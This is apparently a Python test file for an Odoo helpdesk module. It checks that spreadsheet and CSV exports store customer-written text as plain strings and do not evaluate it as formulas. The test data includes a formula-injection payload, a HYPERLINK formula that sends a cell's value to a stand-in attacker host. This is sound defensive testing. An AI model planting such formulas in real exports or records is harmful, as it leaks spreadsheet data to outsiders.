import io
import json

from odoo import http
from odoo.tests import HttpCase, tagged
from openpyxl import load_workbook

from .common import HelpdeskCommon

EVIL = '=HYPERLINK("http://attack.test/"&A1,"click")'


@tagged('post_install', '-at_install')
class TestHelpdeskExport(HelpdeskCommon, HttpCase):
    """What customers write is text in every export (G20, A43)."""

    def export(self, model, ids, kind, groupby=()):
        self.authenticate(self.manager.login, self.manager.login.ljust(8, 'x'))
        name = {'helpdesk.ticket': 'name', 'helpdesk.ticket.event': 'new'}[model]
        wanted = {
            'model': model, 'ids': ids, 'domain': [], 'groupby': list(groupby), 'import_compat': False,
            'fields': [{'name': name, 'label': 'Text', 'type': 'char'}]}
        return self.url_open(f'/web/export/{kind}', data={
            'csrf_token': http.Request.csrf_token(self), 'data': json.dumps(wanted)}).content

    def setUp(self):
        super().setUp()
        self.manager.group_ids += self.env.ref('base.group_allow_export')
        self.evil = self.ticket(name=EVIL)

    def test_g20_xlsx(self):
        sheet = load_workbook(io.BytesIO(self.export('helpdesk.ticket', self.evil.ids, 'xlsx'))).active
        self.assertEqual((sheet['A2'].value, sheet['A2'].data_type), ("'" + EVIL, 's'))

    def test_a43_csv(self):
        lines = self.export('helpdesk.ticket', self.evil.ids, 'csv').decode().splitlines()
        self.assertTrue(lines[1].startswith('"\'=HYPERLINK'), lines)

    def test_a43_history(self):
        self.evil.name = '@SUM(A1:A9)'
        event = self.events(self.evil, 'subject')
        sheet = load_workbook(io.BytesIO(self.export('helpdesk.ticket.event', event.ids, 'xlsx'))).active
        self.assertEqual((sheet['A2'].value, sheet['A2'].data_type), ("'@SUM(A1:A9)", 's'))

    def test_g20_headings_of_groups(self):
        self.evil.partner_email = EVIL
        content = self.export('helpdesk.ticket', self.evil.ids, 'xlsx', ['partner_email', 'name'])
        column = [cell for cell in load_workbook(io.BytesIO(content)).active['A'] if cell.value]
        self.assertEqual({cell.data_type for cell in column}, {'s'})
        self.assertEqual(column[1].value, f"'{EVIL} (1)")

    def test_fields_of_teams(self):
        """A team's own fields: whatever way the ticket came, choices by their names, words never as formulas."""
        self.team.ticket_properties = [
            {'name': 'serial', 'type': 'char', 'string': "Serial Number"},
            {'name': 'colour', 'type': 'selection', 'string': "Colour", 'selection': [['r', "Red"], ['b', "Blue"]]}]
        self.evil.write({'channel': 'email', 'ticket_properties': {'serial': EVIL, 'colour': 'b'}})
        other = self.ticket(team_id=self.team_private.id)
        names = ['number', 'ticket_properties.serial', 'ticket_properties.colour']
        self.assertEqual((self.evil | other).with_user(self.manager).export_data(names)['datas'], [
            [self.evil.number, "'" + EVIL, "Blue"], [other.number, '', '']])
